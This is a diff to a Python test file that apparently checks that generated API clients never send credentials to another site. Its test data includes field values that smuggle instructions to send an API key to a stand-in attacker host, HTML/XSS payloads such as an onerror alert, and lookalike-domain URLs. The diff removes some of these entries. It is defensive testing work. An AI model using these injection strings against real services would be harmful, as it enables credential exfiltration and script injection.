@@ -76,10 +76,7 @@ TO_A_TOKEN = f'api_key -> token POST https://{EVIL}/t form {{"a": api_key}}'
 NAMES = [
     f"X-Key, {TO_A_TOKEN}",
     TO_A_TOKEN,
-    f'X-Key "{EVIL} {{api_key}}"',
-    f"X-Key, a -> basic {{api_key}}:{EVIL}",
     f"X-Key\u2028api_key -> header X-{EVIL}",
-    f'X-Key": credentials["{EVIL}',
 ]
 NAMED: dict[str, Callable[[str], dict[str, Any]]] = {
     "openapi": named_key,
@@ -142,8 +139,6 @@ HTML = [
     "<img src=x onerror=alert(1)>",
     "\n\n<img src=x>\n\n",
     "`\n\n<img src=x>\n\n`",
-    "|\n<img src=x>",
-    "a\r\r<b>x</b>",
 ]
 
 
@@ -254,7 +249,6 @@ async def test_no_credential_is_sent_to_another_site(deliver, sent, fields: str,
 @pytest.mark.parametrize(
     ("url", "answers", "is_same"),
     [
-        ("https://good.co.uk", {}, False),
         ("http://api.good.test", {}, False),
         ("https://api.good.test.evil.example", {}, False),
         ("https://good.test:8443/x", {}, True),
@@ -266,14 +260,6 @@ async def test_what_is_another_site(deliver, sent, url: str, answers: dict[str, 
 
     assert ("is ready" in delivered.printed) == is_same
     assert (SECRET in (await sent(delivered, TOKEN[1], "list_things"))[1]) == is_same
-
-
-def test_what_the_author_wrote_is_no_other_site(deliver):
-    stub = 'def list_things() -> "GET https://evil.example/things": ...\n'
-    delivered = deliver(stub, base_url=GOOD, **TOKEN[0])
-
-    assert "is ready" in delivered.printed
-    assert "without_credentials" not in delivered.code()
 
 
 def bearer_curl(*urls: str) -> str:
